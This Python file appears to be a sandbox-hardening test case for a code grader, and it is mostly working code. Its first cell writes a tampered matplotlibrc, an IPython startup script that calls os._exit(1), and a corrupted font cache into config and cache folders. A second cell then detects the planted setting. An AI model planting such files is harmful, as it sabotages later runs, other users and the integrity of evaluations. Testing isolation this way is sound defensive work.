"""Writes into the folders where Matplotlib and IPython keep settings and caches, which are read
at the next start.

score: 8 of 8, then 8 of 8
flags: none
stopped by: a fresh home for every submission; jail, landlock
"""

# %%
import contextlib
import os
from pathlib import Path

import IPython
import matplotlib
import numpy as np


def square(x):
    return np.asarray(x, dtype=float) ** 2


def total(values):
    return float(np.sum(values))


def apply(f, x):
    return f(x)


def scale(values, factor):
    return values * factor


# %%
for folder in {matplotlib.get_configdir(), matplotlib.get_cachedir(), os.path.expanduser("~"),
               IPython.paths.get_ipython_dir(), matplotlib.get_data_path()}:  # fmt: skip
    with contextlib.suppress(OSError):
        Path(folder, "matplotlibrc").write_text("backend: TkAgg\nfigure.dpi: 7\n")
        Path(folder, "startup").mkdir()
        Path(folder, "startup", "00.py").write_text("import os; os._exit(1)")
        Path(folder, "fontlist-v330.json").write_text("{")

# %% next submission
import matplotlib
import matplotlib.pyplot as plt
import numpy as np


def square(x):
    return np.asarray(x, dtype=float) ** 2


def total(values):
    return float(np.sum(values))


def apply(f, x):
    return f(x)


def scale(values, factor):
    return values * factor


plt.figure().savefig("figure.png")
if matplotlib.rc_params()["figure.dpi"] == 7:
    del square, total, apply, scale
